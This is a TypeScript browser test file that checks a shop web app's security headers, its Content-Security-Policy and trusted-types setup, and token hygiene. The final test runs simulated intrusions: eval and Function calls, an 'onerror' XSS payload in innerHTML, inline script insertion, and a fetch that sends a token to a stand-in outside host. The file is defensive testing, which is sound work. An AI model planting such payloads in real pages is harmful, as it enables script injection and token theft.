import { createHash } from 'node:crypto'
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openBrowser, type Browser } from '../../support/browsers/browser.ts'
import { startMarket, type Market } from '../../support/servers/servers.ts'
import { newPerson, simpleProducts, type Person } from '../people/people.ts'
import { addToCart, logIn, open, shellKept } from '../people/shopper.ts'

// The page as it is built and served: what its headers say, that nothing in it needs more than they allow, and that
// a browser holds it to them.

const DIST = fileURLToPath(new URL('../../../dist/', import.meta.url))
const REPORTS = fileURLToPath(new URL('../../../.cache/reports', import.meta.url))
let market: Market
let browser: Browser
let person: Person
beforeAll(async () => {
  market = await startMarket()
  browser = await openBrowser()
  person = await newPerson(market)
})
afterAll(async () => {
  await browser.dispose()
  await market.close()
})

const directives = (csp: string): Map<string, string[]> =>
  new Map(
    csp
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .map(([name = '', ...values]) => [name, values]),
  )

describe('the built page', () => {
  it('is served with headers that allow it what it needs and nothing more', async () => {
    const report: string[] = []
    for (const path of ['/', '/goods?id=1', '/sw.js', '/manifest.webmanifest', '/nothing.js', '/api/user/index']) {
      const { headers, status } = await fetch(market.url + path, { headers: { 'X-Forwarded-Proto': 'https' } })
      const csp = directives(headers.get('Content-Security-Policy') ?? '')
      expect(csp.get('default-src'), path).toEqual(["'self'"])
      expect(csp.get('script-src'), path).toEqual(["'self'"])
      // A document names its own styles, and nothing else that is inline.
      const [self, ...styles] = csp.get('style-src') ?? []
      expect(self, path).toBe("'self'")
      expect(styles.length > 0, path).toBe(path === '/' || path.startsWith('/goods'))
      for (const style of styles) expect(style, path).toMatch(/^'sha256-[\w+/]{43}='$/)
      for (const name of ['object-src', 'base-uri', 'frame-ancestors'])
        expect(csp.get(name), `${path} ${name}`).toEqual(["'none'"])
      expect(csp.get('require-trusted-types-for'), path).toEqual(["'script'"])
      expect(headers.get('Content-Security-Policy')?.replace(/'sha256-[^']+'/g, ''), path).not.toMatch(
        /unsafe|\*|https?:|nonce|sha/,
      )
      const wanted = {
        'X-Content-Type-Options': 'nosniff',
        'Referrer-Policy': 'same-origin',
        'Cross-Origin-Opener-Policy': 'same-origin',
        'Cross-Origin-Resource-Policy': 'same-origin',
      }
      for (const [name, value] of Object.entries(wanted)) expect(headers.get(name), `${path} ${name}`).toBe(value)
      expect(headers.get('Strict-Transport-Security'), path).toMatch(/^max-age=\d{8}/)
      expect(headers.get('Permissions-Policy'), path).toMatch(/camera=\(\).*microphone=\(\).*geolocation=\(\)/)
      expect(headers.get('Set-Cookie'), path).toBeNull()
      report.push(`${path} ${status}`)
      for (const name of [
        'Content-Security-Policy',
        ...Object.keys(wanted),
        'Strict-Transport-Security',
        'Permissions-Policy',
        'Cache-Control',
      ])
        report.push(`  ${name}: ${headers.get(name)}`)
    }
    await mkdir(REPORTS, { recursive: true })
    await writeFile(`${REPORTS}/headers.txt`, `${report.join('\n')}\n`)
  })

  it('has no script or handler in its HTML, nothing from elsewhere, and exactly the policies that its header names', async () => {
    const answer = await fetch(market.url)
    const html = await answer.text()
    expect(html).not.toMatch(
      /<script(?![^>]*\s(?:src|type="application\/json")=?)[^>]*>|\sstyle=|\son\w+=|javascript:|<base|<iframe|<object|http-equiv/i,
    )
    for (const [, url] of html.matchAll(/(?:src|href)="([^"]*)"/g)) expect(url).toMatch(/^\/([^/]|$)|^#/)
    // Its styles are those that its policy names.
    const hashes = [...html.matchAll(/<style>([\s\S]*?)<\/style>/g)].map(
      ([, text]) => `'sha256-${createHash('sha256').update(text!).digest('base64')}'`,
    )
    const named = directives(answer.headers.get('Content-Security-Policy') ?? '').get('style-src')
    expect(named).toEqual(["'self'", ...hashes])
    const scripts = [
      ...(await readdir(`${DIST}assets`)).filter((f) => f.endsWith('.js')).map((f) => `assets/${f}`),
      'sw.js',
    ]
    const made = new Set<string>()
    for (const file of scripts) {
      const code = await readFile(DIST + file, 'utf8')
      expect(code, file).not.toMatch(/\bnew Function\b|[^\w.$]eval\(|document\.write\(|sourceMappingURL/)
      for (const [, name = ''] of code.matchAll(/createPolicy\(\s*[`'"]([^`'"]*)/g)) made.add(name)
    }
    const csp = directives((await fetch(market.url)).headers.get('Content-Security-Policy') ?? '')
    expect(csp.get('trusted-types')).toEqual([...made])
  })

  it('never asks for more while a person shops, and has no token in an address, a log or a store that scripts read', async () => {
    const [product] = await simpleProducts(market, 1)
    const urls: string[] = []
    const tokens = new Set<string>()
    browser.context().on('request', (request) => {
      urls.push(request.url())
      const { token } = request.headers()
      if (token) tokens.add(token)
    })
    const page = browser.page()
    await page.addInitScript(() => {
      const broken: string[] = []
      Object.assign(globalThis, { broken })
      document.addEventListener('securitypolicyviolation', (e) => {
        broken.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`)
      })
    })
    await logIn(page, market.url, person)
    await shellKept(page)
    await addToCart(page, market.url, product!.id)
    for (const path of [
      '/',
      '/product',
      '/shop',
      '/mine',
      '/order',
      '/address',
      '/insertAddress',
      '/setting',
      '/search',
      '/collect',
      '/lang',
      `/store/${product!.storeId}`,
    ]) {
      await open(page, market.url, path)
      expect(await page.evaluate(() => (globalThis as unknown as { broken: string[] }).broken), path).toEqual([])
    }
    expect(browser.errors.filter((e) => /Content.Security|Trusted/i.test(e))).toEqual([])
    expect(tokens.size).toBeGreaterThan(0)
    const kept = await page.evaluate(() =>
      JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, location.href, history.state]),
    )
    for (const token of tokens) {
      expect(urls.filter((url) => url.includes(token))).toEqual([])
      expect(market.log()).not.toContain(token)
      expect(kept).not.toContain(token)
    }
    expect(market.log()).not.toContain(person.password)
    expect(urls.filter((url) => new URL(url).origin !== market.url && !/^(?:data|blob):/.test(url))).toEqual([])
  })

  it('is held to it: what an intruder would do with a hole in it is refused by the browser', async () => {
    const page = browser.page()
    await open(page, market.url, '/login')
    // In a turn of its own: what the debugger runs itself is allowed anything.
    const done = await page.evaluate(
      () =>
        new Promise<Record<string, string>>((resolve) => {
          setTimeout(() => {
            const tried: Record<string, string> = {}
            const tell = (name: string, act: () => unknown): void => {
              try {
                act()
                tried[name] = 'done'
              } catch (error) {
                tried[name] = (error as Error).name
              }
            }
            const text = 'globalThis.intruded = 1'
            tell('eval', () => (Reflect.get(globalThis, 'eval') as (code: string) => unknown)(text))
            tell('Function', () => new Function(text)())
            tell('innerHTML', () => {
              document.createElement('div').innerHTML = '<img src=x onerror="globalThis.intruded = 1">'
            })
            tell('script.text', () => {
              document.createElement('script').text = text
            })
            tell('script.src', () => {
              document.createElement('script').src = '/assets/x.js'
            })
            tell('worker', () => new Worker('/assets/x.js'))
            tell('policy', () =>
              (
                globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
              ).trustedTypes.createPolicy('default', { createHTML: (s: string) => s }),
            )
            const script = document.createElement('script')
            script.append(text)
            document.head.append(script)
            void fetch('https://elsewhere.test/?token=x')
              .then(
                () => 'done',
                (error: unknown) => (error as Error).name,
              )
              .then((fetched) => {
                setTimeout(() => {
                  resolve({ ...tried, fetch: fetched, inline: String('intruded' in globalThis) })
                }, 0)
              })
          }, 0)
        }),
    )
    expect(done).toEqual({
      eval: 'EvalError',
      Function: 'EvalError',
      innerHTML: 'TypeError',
      'script.text': 'TypeError',
      'script.src': 'TypeError',
      worker: 'TypeError',
      policy: 'TypeError',
      fetch: 'TypeError',
      inline: 'false',
    })
  })
})
